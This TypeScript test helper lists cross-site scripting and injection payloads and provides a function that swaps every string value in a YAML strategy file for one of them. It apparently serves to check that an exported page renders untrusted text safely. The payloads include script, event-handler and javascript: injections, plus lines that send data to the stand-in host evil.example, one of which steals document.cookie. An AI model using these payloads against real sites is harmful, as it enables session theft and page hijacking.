import { isPair, isScalar, parseDocument, visit } from 'yaml';

/**
 * Attacks a strategy's text might carry: markup that runs script, loads something, navigates or
 * restyles the page, and link schemes that do. The browser test of the exported page also checks
 * what the ones that aim at `window.__pwned`, the title, a navigation or a request would do if
 * they ran.
 */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)><circle r=1 /></svg>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">click</a>',
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(document.domain)',
  'java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '[click me](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '![pixel](https://evil.example/track.png)',
  '**bold** _italic_ `code` # not a heading',
  '</style><script>alert(1)</script>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  'x" style="background:url(https://evil.example)',
  'expression(alert(1)); behavior:url(x.htc)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><button>Send</button></form>',
  '<<script>script>alert(1)<</script>/script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '#{alert(1)} <%= alert(1) %>',
  'https://example.com/"onmouseover="alert(1)',
  'https://example.com/(x)[y]<z>',
  'mailto:a@example.com?body=<script>alert(1)</script>',
  '<script>window.__pwned = 1; document.title = "pwned"; location = "https://evil.example/"</script>',
  '<img src="https://evil.example/pixel.png" onerror="window.__pwned = 1">',
  '<svg><script>window.__pwned = 1</script></svg>',
  '<svg><a href="javascript:window.__pwned = 1"><text y="20">x</text></a></svg>',
  '" autofocus onfocus="window.__pwned = 1" x="',
  'javascript:window.__pwned=1//https://example.com',
  '<iframe src="javascript:parent.__pwned = 1"></iframe>',
  '<object data="data:text/html,<script>parent.__pwned = 1</script>"></object>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '</style><style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/bg) }</style>',
  "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>",
  "{{constructor.constructor('window.__pwned = 1')()}} ${window.__pwned = 1} <%= window.__pwned = 1 %>",
];

/**
 * `source` with every string value (not the keys) replaced by an attack: the value at position
 * `i` in document order by `pick(i, field)`, `field` being its key (`url`, `title`…; undefined in
 * a list). So every free-text field, every URL field, and ids and enum values too, get one.
 */
export function poisoned(source: string, pick: (index: number, field: string | undefined) => string): string {
  const doc = parseDocument(source);
  let index = 0;
  visit(doc, {
    Scalar(key, node, path) {
      if (key === 'key' || typeof node.value !== 'string') return;
      const parent = path[path.length - 1];
      // A parsed key is a scalar; one added with setIn() is the plain string.
      const name = isPair(parent) ? (isScalar(parent.key) ? parent.key.value : parent.key) : undefined;
      const field = typeof name === 'string' ? name : undefined;
      node.value = pick(index++, field);
    },
  });
  return doc.toString();
}
